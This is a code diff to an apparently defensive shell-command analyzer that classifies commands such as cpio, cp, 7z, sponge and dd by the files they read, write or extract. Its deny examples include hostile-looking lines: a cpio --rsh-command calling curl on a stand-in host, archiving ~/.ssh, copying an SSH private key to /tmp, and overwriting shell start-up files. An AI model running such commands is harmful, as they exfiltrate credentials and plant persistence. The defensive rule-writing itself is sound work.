@@ -66,6 +66,32 @@ function operandsAre(names: string, summary: string, role: WordRole, options: Op
   };
 }
 
+/** cpio: copy-in (-i) extracts beneath -D (or here), pass-through (-p) beneath its operand; copy-out writes its stdout or -O. */
+function cpio(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: 'ioptvdmurfaAbBcklLsSV0',
+    valued: 'DHEFMOIRC',
+    long: ['extract', 'create', 'pass-through', 'list', 'verbose', 'make-directories', 'preserve-modification-time', 'unconditional', 'nonmatching', 'reset-access-time', 'absolute-filenames', 'no-absolute-filenames', 'null', 'dereference', 'link', 'swap', 'swap-bytes', 'swap-halfwords', 'quiet', 'sparse', 'dot', 'help', 'version', 'to-stdout', 'only-verify-crc', 'rename', 'no-preserve-owner', 'append', 'force-local', 'ignore-devno', 'renumber-inodes', 'device-independent', 'reproducible', 'warning'],
+    longValued: ['directory', 'format', 'file', 'pattern-file', 'owner', 'message', 'block-size', 'io-size', 'rsh-command', 'rename-batch-file'],
+  });
+  if (has(p, 'help', 'version')) return {};
+  const answer: Partial<Answer> & { runs: NonNullable<Answer['runs']>; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
+  for (const o of p.options) {
+    if (o.name === 'rsh-command' && o.value) answer.runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: 'cpio --rsh-command', more: true });
+    if ((o.name === 'F' || o.name === 'file' || o.name === 'I' || o.name === 'E' || o.name === 'pattern-file') && o.value) answer.uses.push({ word: o.value, role: 'read' });
+    if (o.name === 'O' && o.value) answer.uses.push({ word: o.value, role: 'write' });
+  }
+  if (has(p, 't', 'list')) return answer;
+  if (has(p, 'i', 'extract')) {
+    const dir = p.options.find((o) => o.name === 'D' || o.name === 'directory')?.value;
+    answer.uses.push(dir ? { word: dir, role: 'extract' } : { word: call.args[0]!, role: 'extract', values: ['.'] });
+  } else if (has(p, 'p', 'pass-through')) {
+    for (const o of p.operands) answer.uses.push({ word: o.word, role: 'extract' });
+  }
+  return answer;
+}
+
 /** The basename a source keeps when copied into a directory. */
 function baseOf(w: Word): string[] {
   return (w.values ?? []).map((v) => v.replace(/\/+$/, '').split('/').at(-1) ?? v);
@@ -89,6 +115,9 @@ function copyLike(call: Call, spec: OptionSpec, sourceRole: (recursive: boolean)
   for (const s of sources) uses.push({ word: s, role: sourceRole(recursive) });
   // With -t the destination is a directory: a trailing slash says so to whoever resolves it.
   if (dest) uses.push({ word: dest, role: 'write', into: sources.flatMap(baseOf), ...(target && dest.values ? { values: dest.values.map((v) => `${v}/`) } : {}) });
+  // A directory's contents (`dots/.`) or a glob's matches (`skel/.[!.]*`) land under names the line does not spell:
+  // like an archive's, any of them may be a start-up file (`cp -r dotfiles/. ~`).
+  if (dest && call.program !== 'ln' && sources.some((w) => w.values === null || w.values.some((v) => /(?:^|\/)\.\/*$|[*?[]/.test(v)))) uses.push({ word: dest, role: 'extract' });
   else if (call.program === 'ln' && ops.length === 1) uses.push({ word: ops[0]!, role: 'write', values: ['.'], into: baseOf(ops[0]!) });
   // A source that is the stdin (`cp /dev/stdin f`) copies what the command reads.
   const fromStdin = sources.some((w) => /^\/(dev\/stdin|dev\/fd\/0|proc\/self\/fd\/0)$/.test(value(w) ?? ''));
@@ -623,6 +652,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   formatter('eslint stylelint', 'eslint and stylelint: read their files; --fix rewrites them', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['eslint --fix .husky/pre-commit'], pass: ['eslint .husky/pre-commit', 'eslint --fix src'] }),
   formatter('black blue', 'black: rewrites its files unless --check or --diff', (w) => !w.some((x) => /^(--check|--diff)$/.test(x)), { deny: ['black .git/hooks/pre-commit'], pass: ['black --check .', 'black src'] }),
   formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit'], pass: ['ruff check .', 'biome check --write src'] }),
+  { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio'] } },
   { names: ['7z', '7za', '7zr'], summary: '7-Zip: a/u write the archive and read the files; x/e extract into -o', analyze: sevenZip, examples: { deny: ['7z a /tmp/k.7z ~/.ssh', '7z x dots.7z -o$HOME', '7z a -sdel x.7z ~/notes'], pass: ['7z a -sdel logs.7z logs', '7z a repo.7z .git', '7z l x.7z', '7z x x.7z -oout'] } },
   { names: ['sponge'], summary: 'sponge: soaks up its stdin and writes it to the file it is given', analyze: (call) => { const ops = call.args.filter((a) => !(value(a) ?? '-').startsWith('-')); return { uses: ops.map((word) => ({ word, role: 'write' as const })), stdinTo: ops }; }, examples: { deny: ['echo x | sponge ~/.bashrc'], pass: ['sort names.txt | sponge names.txt'] } },
   { names: ['dd'], summary: 'dd: if= is read, of= is written', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
